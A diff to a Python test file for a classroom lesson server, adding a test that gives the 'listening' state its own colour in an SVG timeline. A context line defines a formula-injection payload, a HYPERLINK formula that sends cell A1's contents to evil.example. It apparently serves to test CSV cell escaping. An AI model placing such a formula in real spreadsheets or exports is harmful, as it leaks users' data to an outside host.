@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import xml.dom.minidom
+from typing import Any
 
 import pytest
 
@@ -13,7 +14,7 @@ from server.classroom.lesson import Actor, Lesson
 from server.classroom.report import RosterEntry, Thresholds, lesson_report
 from server.classroom.rules import Rules
 from server.exports import LESSON_COLUMNS, lesson_csv, matrix_csv, safe_cell
-from server.timeline_svg import timeline_svg
+from server.timeline_svg import COLOURS, timeline_svg
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -75,3 +76,14 @@ def test_timeline_is_valid_svg_with_names_as_text() -> None:
     xml.dom.minidom.parseString(svg)  # well-formed
     assert "<script>" not in svg and "&lt;script&gt;" in svg and "Aigerim &amp; Co" in svg
     assert 'viewBox="0 0 360' in svg
+
+
+def test_listening_has_its_own_colour_on_the_timeline() -> None:
+    report: dict[str, Any] = report_with(["Aida"])
+    start = report["started_at"]
+    report["learners"][0]["segments"] = [{"start": start, "end": start + 1, "state": "listening"}]
+    svg = timeline_svg("Lesson", report, {"listening": "угуп турду"})
+    listening = COLOURS["listening"]
+    assert listening not in {c for s, c in COLOURS.items() if s != "listening"}
+    assert svg.count(f'fill="{listening}"') == 2  # the bar and the legend's swatch
+    assert "угуп турду" in svg
